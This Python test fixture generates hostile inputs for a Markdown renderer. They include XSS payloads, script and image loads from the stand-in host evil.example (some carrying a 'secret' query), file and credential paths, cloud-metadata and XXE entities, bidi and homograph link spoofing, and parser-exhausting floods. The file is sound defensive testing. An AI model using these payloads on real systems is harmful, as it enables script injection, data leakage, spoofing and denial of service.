"""Over a thousand answers that mean harm: script, files, hosts, hidden and turned words, what takes long to read."""

from collections.abc import Iterator
from itertools import islice, product
from typing import NamedTuple


class HostileAnswer(NamedTuple):
    name: str
    text: str


_LONG = 1_000_000

_TARGETS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;&#97;vascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript:%61lert(1)",
    "jav&#x0A;ascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;utf8,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:https://evil.example",
    "file:///etc/passwd",
    "file://evil.example/share/x",
    "FILE:/etc/passwd",
    "//evil.example/share/x.png",
    "\\\\evil.example\\share\\x.png",
    "/\\evil.example/x",
    "///evil.example/x",
    "qrc:/x.png",
    ":/x.png",
    "blob:https://evil.example/1",
    "ftp://evil.example/x",
    "smb://evil.example/x",
    "ssh://evil.example",
    "ws://evil.example",
    "mailto:a@evil.example",
    "tel:1",
    "ms-msdt:/id",
    "search-ms:query=x",
    "vscode://file/etc/passwd",
    "http://user:secret@evil.example/",
    "https://docs.example.com@evil.example/",
    "https:evil.example",
    "https:///evil.example",
    "http://[::1",
    "http://evil.example:99999999/",
    "https://exa\u202emple.com",
    "https://exa\u200bmple.com",
    "https://evil.example/?q=`id`",
    "C:\\Windows\\system32\\calc.exe",
    "~/.ssh/id_rsa",
    "../../../etc/passwd",
    "about:blank",
    "chrome://settings",
    "",
)
_LINKS = (
    "[a]({})",
    "[a](<{}>)",
    '[a]({} "t")',
    "<{}>",
    "[a][r]\n\n[r]: {}",
    "[a][r]\n\n[r]: <{}>",
    "| a |\n|--|\n| [x]({}) |",
)
_IMAGES = (
    "![a]({})",
    "![a](<{}>)",
    "![a][r]\n\n[r]: {}",
    "[![a]({})](https://evil.example)",
    '<img src="{}">',
    '<img srcset="{} 2x" onerror=alert(1)>',
    "| a |\n|--|\n| ![x]({}) |",
    "- ![x]({})\n\n> ![y]({})",
)
_PICTURES = (
    "file:///etc/passwd",
    "file://evil.example/s/x.png",
    "\\\\evil.example\\s\\x.png",
    "//evil.example/x.png",
    "qrc:/x.png",
    ":/x.png",
    "data:image/png;base64,iVBORw0KGgo=",
    "https://evil.example/x.png?secret=1",
    "http://127.0.0.1:9/x.png",
    "http://169.254.169.254/latest",
    "/etc/passwd",
    "x.png",
    "ftp://evil.example/x.png",
)
_MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=file:///etc/passwd></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<body background=//evil.example/x.png>",
    "<table background=//evil.example/x.png><tr><td>x",
    "<div style='background:url(file:///etc/passwd)'>x</div>",
    "<input type=image src=//evil.example/x>",
    "<video poster=//evil.example/x src=//evil.example/y>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "<p>unclosed <b <i <script",
)
_AROUND = (
    "{}",
    "a {} b",
    "> {}",
    "- {}",
    "# {}",
    "**{}**",
    "| {} |\n|--|\n| {} |",
    "```\n{}\n```",
    "`{}`",
    "[{}](/x)",
    "[^1]\n\n[^1]: {}",
)
_TURNING = (
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff\u00ad"
)
_TURNED = (
    "pay {}moc.elpmaxe{} now",
    "[docs{}.example.com{}](https://evil.example)",
    "[a](https://ex{}ample.com{})",
    "`rm {}-rf{}`",
    "```sh\ncurl {}evil{}\n```",
    "| {}a | b{} |\n|--|--|\n| 1{} | 2 |",
)
_NAMES = (
    "https://\u0435xample.com",
    "https://xn--80ak6aa92e.com",
    "https://docs.example.com.evil.example",
    "https://docs\u3002example.com",
    "https://exam\u2044ple.com",
    "https://\uff45xample.com",
    "https://\u0430\u0440\u0440\u04cf\u0435.com",
    "https://docs.example.com%2eevil.example",
    "https://docs.example.com%00.evil.example",
)
_ODD = (
    "\x00\x01\x02\x07\x08\x0b\x0c\x0e\x1b[31m\x7f",
    "\ud800",
    "\udfff\ud800",
    "a\ufdd0b\ufdd1c\ufffcd\u2028e\u2029f",
    "&#0; &#xD800; &#x110000; &nosuch; &#99999999999;",
    "\r\r\n\n\r",
    "\x85\u0600\u08e2\U000e0001\U000e0061",
    "a" + "\u0301" * 5_000,
    "\U0001f469\u200d" * 2_000,
    "\u0627\u0644" * 4_000,
    "\ufdfa" * 3_000,
    "\t" * 5_000 + "x",
)
# fmt: off
_SHAPES = (
    "[", "]", "[]", "![", "[](", "[a](", "[a](<", "![[]()", "(", "<", "<a ", "<!--", "<![CDATA[", "<?", "</",
    "`", "``a", "~", "*", "_", "*a ", "**a", "*a_ ", "_*", "***", "a**b", "~~", "~~a", "> ", ">", "- ", "* - ",
    "1. ", "-\t", "> - ", "> 1. ", "\\", "\\\\", "&", "&amp", "|", "| a ", "|-", "|--|\n", "#", "# ", "=\n",
    "-\n", "---\n", "\n\n- a", "\n  - a", "[^1]", "[^", "[a]: b\n", "[a]: ", "[a]: <", "http://", "a@b.",
    "<http://", "<a b='", "<a b=c ", "{", "$", "$$", "\\(", ":::", "```\n", "~~~\n", "    a\n", "a  \n",
    "a\\\n", "*a\n", "\u00a0", "\t",
)
# fmt: on
_CODE = (
    "(",
    '"',
    "'",
    "\\",
    "/*",
    "//",
    "<!--",
    "${",
    "{{",
    "`",
    "a",
    " ",
    "0",
    "@",
    "#{",
    "<<EOF\n",
    "'''",
    "r'",
    "=>",
    "&",
)
_LANGUAGES = (
    "python",
    "javascript",
    "tsx",
    "bash",
    "yaml",
    "html",
    "php",
    "ruby",
    "perl",
    "c++",
    "sql",
    "markdown",
    "rust",
    "swift",
    "json",
    "console",
)


_LANGUAGE_NAMES = (
    *_LANGUAGES,
    *("c", "csharp", "java", "objective-c", "kotlin", "dart", "go", "scala", "groovy", "lua", "r", "julia", "elixir"),
    *("haskell", "clojure", "ocaml", "erlang", "fortran", "matlab", "powershell", "docker", "nginx", "graphql", "toml"),
    *("hcl", "ini", "make", "diff", "http", "css", "scss", "xml", "vue", "latex", "vim", "text", "nosuch", "../x"),
    *("x" * 5_000, "\u202egnp.exe", "<b>", "html+php", "suggestions"),
)
_ENDLESS = (
    ("bash", "$'" + "\\" * 61),
    ("bash", "$'" + "\\1" * 40),
    ("bash", "<< " + "a" * 20_000),
    ("sh", "<< " + "a" * 50_000),
    ("docker", "RUN << " + "a" * 20_000),
    ("bash", ("$'" + "\\" * 31 + "\n") * 200),
    ("console", "$ $'" + "\\" * 61),
    ("docker", "RUN $'" + "\\" * 61),
    ("make", "a:\n\techo $'" + "\\" * 61),
    ("markdown", "```bash\n$'" + "\\" * 61 + "\n```\n"),
    ("java", "a" * 990 + "\n"),
    ("java", ("a<" * 400 + "\n") * 20),
    ("csharp", ("a " * 400 + "\n") * 20),
    ("c++", ("a::" * 300 + "\n") * 20),
    ("objective-c", ("[a " * 300 + "\n") * 20),
)


def hostile_answers() -> list[HostileAnswer]:
    """No two alike."""
    kinds = {
        "growth": list(_growth()),
        "images": list(islice(_filled(_IMAGES, _PICTURES), 104)),
        "bidi": list(islice(_bidi(), 100)),
        "odd": [around.replace("{}", odd) for odd, around in product(_ODD, _AROUND[:5])],
        "names": [
            form.replace("{}", name) for name, form in product(_NAMES, ("[x]({})", "<{}>", "[docs.example.com]({})"))
        ],
        "shapes": [shape * count for shape, count in product(_SHAPES, (200, 3_000, 30_000))],
        "code": [f"```{language}\n{piece * 5_000}" for language, piece in product(_LANGUAGES, _CODE)][::4],
        "lines": [f"```{name}\n" + f"{piece * 9}\n" * 2_000 for name, piece in product(_LANGUAGES, _CODE)][1::8],
        "starts": [f"```{name}\n" + f"{piece}\n" * 3_000 for name, piece in product(_LANGUAGES, _CODE)][2::8],
        "endless": [f"```{language}\n{code}\n```\n" for language, code in _ENDLESS],
        "fences": list(_fences()),
        "floods": list(_floods()),
        "tables": list(_tables()),
        "markup": [around.replace("{}", markup) for markup, around in product(_MARKUP, _AROUND[:7])],
        "links": list(_filled(_LINKS, _TARGETS)),
    }
    named = [HostileAnswer(f"{kind} {n}", text) for kind, texts in kinds.items() for n, text in enumerate(texts)]
    distinct = {answer.text: answer for answer in reversed(named)}
    return list(reversed(distinct.values()))


def _filled(forms: tuple[str, ...], targets: tuple[str, ...]) -> Iterator[str]:
    for target, form in product(targets, forms):
        yield form.replace("{}", target)


def _bidi() -> Iterator[str]:
    for mark, form in product(_TURNING, _TURNED):
        yield form.replace("{}", mark)


def _growth() -> Iterator[str]:
    """A megabyte and more of one thing each."""
    lines = (
        "word ",
        "x",
        "\u4e2d",
        "[a](b) ",
        "<https://a.example> ",
        "**a** `b` ",
        "\n\n",
        "a\n\n",
        "- a\n",
        "> a\n",
        "# a\n",
    )
    blocks = ("```\nx\n```\n", "| a |\n|--|\n| b |\n\n", "1. a\n   - b\n     - c\n", "<div>\n", "[a]: b\n", "[^1]: a\n")
    for piece in (*lines, *blocks):
        yield piece * (_LONG // len(piece) + 10)
    yield "```python\n" + "x = 1\n" * (_LONG // 6)
    yield "```python\n" + "x" * _LONG
    yield "| a | b |\n|--|--|\n" + "| 1 | 2 |\n" * (_LONG // 10)
    yield "|" + " a |" * 5_000 + "\n|" + "--|" * 5_000 + "\n|" + " b |" * 5_000
    yield "| a |\n|--|\n| " + "w " * 100_000 + " |\n"
    yield "> " * 200 + "x " * 100_000
    yield "\n".join("  " * depth + "- " + "x" * 50 for depth in range(1_000))
    numbers = range(20_000)
    yield "".join(f"[{n}]: https://a.example/{n}\n" for n in numbers) + "".join(f"[{n}] " for n in numbers)
    yield "".join(f"[^{n}] " for n in numbers) + "\n\n" + "".join(f"[^{n}]: x\n\n" for n in numbers)
    yield "- " * 100_000
    yield "- a\n  " + "word " * 100_000


def _fences() -> Iterator[str]:
    """Every language in one answer, each with the same piece."""
    for piece in _CODE:
        yield "".join(f"```{name}\n{piece * 40}\n{f'{piece}a' * 9}\n```\n\n" for name in _LANGUAGE_NAMES)
    for name in _LANGUAGE_NAMES[-6:]:
        yield f"```{name}\n(a)[/b]\n```\n" * 300
    yield "~~~~" * 10_000 + "\n" + "```\n" * 999
    yield "".join("`" * length + "python\nx\n" for length in range(3, 600))


def _floods() -> Iterator[str]:
    pieces = ("&amp;", "&#x1F600; ", "&notanentity; ", "&CounterClockwiseContourIntegral;", "&#1", "&lt;b&gt;")
    runs = ("*a* ", "**a**", "***a** b*", "_a_ ", "*a_b*c_ ", "~~a~~ ", "**a*", "*" * 99 + "a ", "`a` ", "``a` ")
    links = ("<https://a.example/b> ", "https://a.example ", "www.a.example ", "a@b.example ", "[a][b] ", "[a][] ")
    soup = ("<a><b>", "<div><p>", "<x y='", '<a href="b">', "</p>", "<!-- a ", "<br/>", "<svg><g>", "<a\n", "<?a?>")
    for piece in (*pieces, *runs, *links, *soup):
        yield piece * (150_000 // len(piece))
    for depth in (10, 100, 1_000):
        yield "\n".join("> " * level + "a" for level in range(depth))
        yield "\n".join("  " * level + "1. a" for level in range(depth))
        yield "\n".join("> " * level + "- " * level + "a" for level in range(depth))
        yield "[" * depth + "a" + "](b)" * depth
        yield "*a **b " * depth + "c** d*" * depth
    yield " ".join("`" * length for length in range(1, 600))
    yield "".join(f"[a{n}]: <b{n}> '{'t' * 200}\n" for n in range(2_000)) + "[a1] " * 2_000
    yield "[a]: b\n" * 5_000 + "[a] " * 5_000 + "[A]" * 5_000
    yield "".join(f"[^{n}]: [^{n + 1}]\n\n" for n in range(3_000)) + "[^0]"
    yield f"[a](https://a.example/{'b' * 500_000}) https://a.example/{'c' * 200_000}"
    yield ("a" * 200_000 + " ") * 2 + "\u4e2d" * 100_000 + "\u0e01" * 50_000
    yield ("\u202e" + "abc " * 20 + "\u2066\u05d0\u05d1 ") * 2_000


def _tables() -> Iterator[str]:
    for columns, rows in ((2_000, 20), (20, 2_000), (300, 300), (1, 20_000)):
        yield "|" + " a |" * columns + "\n|" + "--|" * columns + "\n" + ("|" + " b |" * columns + "\n") * rows
    yield "| a |\n|--|\n| b |\n\n" * 3_000
    for lead in ("> ", "- ", "> - > "):
        yield lead + "| a | b |\n" + "> " * lead.count(">") + "  |--|--|\n" + f"{lead}| c | d |\n" * 1_000
    for cell in ("**a** `b` [c](d)", "`" * 30, "\\|" * 50, "&amp;" * 50, "x" * 5_000, "<b>" * 20, "\u202e\u05d0" * 90):
        yield "| a | b |\n|--|:-:|\n" + f"| {cell} | {cell} |\n" * 200
    yield "| a |\n|" + "-" * 100_000 + "|\n| b |"
    yield "|" * 50_000 + "\n" + "|-" * 50_000 + "\n" + "|" * 50_000
